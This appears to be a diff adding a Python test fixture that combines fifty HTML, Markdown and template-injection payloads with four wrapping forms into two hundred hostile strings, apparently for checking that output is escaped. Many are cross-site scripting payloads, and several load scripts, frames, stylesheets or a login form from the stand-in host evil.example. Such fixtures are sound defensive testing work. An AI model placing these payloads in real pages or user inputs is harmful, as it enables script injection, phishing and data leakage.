@@ -1,0 +1,61 @@
+"""200 strings that would do something, were they not shown as they are."""
+
+from __future__ import annotations
+
+# Each would open a dialog, ask another host, or put an element into the page.
+_KERNELS = (
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/pixel.png">',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
+    "<iframe src=https://evil.example></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data=https://evil.example></object>",
+    "<embed src=https://evil.example>",
+    "<base href=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import url(https://evil.example/x.css);</style>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<form action=https://evil.example><button>Log in</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<body onload=alert(1)>",
+    "<div style='position:fixed;inset:0;background:url(https://evil.example/b.png)'>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    "<a href=javascript:alert(1)>here</a>",
+    "<template><script>alert(1)</script></template>",
+    "</p></section></div><h1>Owned</h1>",
+    "</textarea><script>alert(1)</script>",
+    "</title></script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    '" onmouseover="alert(1)" x="',
+    "' onfocus='alert(1)' autofocus='",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "![x](https://evil.example/pixel.png)",
+    "[here](javascript:alert(1)) <javascript:alert(1)>",
+    "# Owned\n\n| a | b |\n|---|---|\n| **x** | `y` |",
+    "```html\n<script>alert(1)</script>\n```",
+    "$$\\href{javascript:alert(1)}{x}$$ \\(\\frac{1}{2}\\) $x^2$",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)} #{alert(1)} <%= alert(1) %> {% debug %}",
+    "javascript:alert(1)//https://evil.example",
+    "data:text/html,<script>alert(1)</script>",
+    "https://evil.example/ www.evil.example mail@evil.example",
+    "\u202e<img src=x onerror=alert(1)>\u202c\u2066x\u2069",
+    "\x00\x07\x1b[31m<b>bell</b>\x7f\ufeff",
+    "<\u200bscript>alert(1)</\u200bscript>",
+    "x" * 400 + "<u>",
+    "Z̸̡̢͔͉͍͎̺̲̳̟͖̙͇͈̪̻̤̥̖̗̘̮̰̱̹̼̟̠̣̦̩̫̬̭̯" * 6 + "<s>",
+)
+# As themselves, in an attribute that they end, in Markdown, and behind text that runs the other way.
+_FORMS = ("{}", "\">'>{}", "**{}** `{}`", "שלום \u200f{}")
+
+HOSTILE = tuple(form.replace("{}", kernel) for form in _FORMS for kernel in _KERNELS)
